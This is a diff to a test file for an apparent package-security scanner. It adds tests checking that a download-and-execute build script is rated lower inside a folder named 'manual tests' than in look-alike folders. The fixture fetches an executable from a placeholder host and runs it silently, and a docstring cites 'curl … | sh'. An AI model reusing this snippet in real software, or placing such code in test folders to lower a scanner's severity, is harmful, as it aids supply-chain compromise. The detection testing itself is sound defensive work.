@@ -24,7 +24,10 @@ malicious twin that must stay high:
 * an archive the scan cannot open (encrypted with an unknown password) that no code of the
   package names is data nothing shown unpacks: medium; named by code, it stays high;
 * a docs-build script at the top of an sdist fetching a tool with ``curl … | sh``, which no
-  code of the package names, is started by a maintainer, not by an install: medium.
+  code of the package names, is started by a maintainer, not by an install: medium;
+* a folder named test(s) with one word saying which tests ("manual tests", "unit_tests",
+  "test_data") holds tests like "tests" does (not "latest", "contest" or a project called
+  "acme-api-test").
 """
 
 from __future__ import annotations
@@ -498,3 +501,27 @@ def bootstrap():
     fetch = [h for h in res.findings if h.capability == "process.shell_download"]
     assert fetch and all(h.severity in HIGH for h in fetch)
     assert res.risk.level in HIGH
+
+
+BUILD_PACKAGE = b"""import os, subprocess, urllib.request
+
+url = "https://example.invalid/innosetup/is.exe"
+urllib.request.urlretrieve(url, "is.exe")
+subprocess.check_call([os.path.abspath("is.exe"), "/VERYSILENT"])
+"""
+
+
+def test_a_script_in_a_folder_named_manual_tests_is_lowered_like_tests(tmp_path):
+    files = {"gizmo/__init__.py": b"", "manual tests/4 binaries/build_package.py": BUILD_PACKAGE}
+    res = _scan(tmp_path, files)
+    assert any(h.capability == "net.download_to_disk" for h in res.findings)  # still shown
+    assert res.risk.level not in HIGH
+
+
+def test_the_same_script_in_a_folder_whose_name_only_contains_test_stays_high(tmp_path):
+    for i, folder in enumerate(("latest", "contest", "attestation", "acme-api-test")):
+        (tmp_path / str(i)).mkdir()
+        files = {"gizmo/__init__.py": b"", f"gizmo/{folder}/build_package.py": BUILD_PACKAGE}
+        res = _scan(tmp_path / str(i), files)
+        assert "chain.download_execute" in _ids(res), folder
+        assert res.risk.level in HIGH, folder
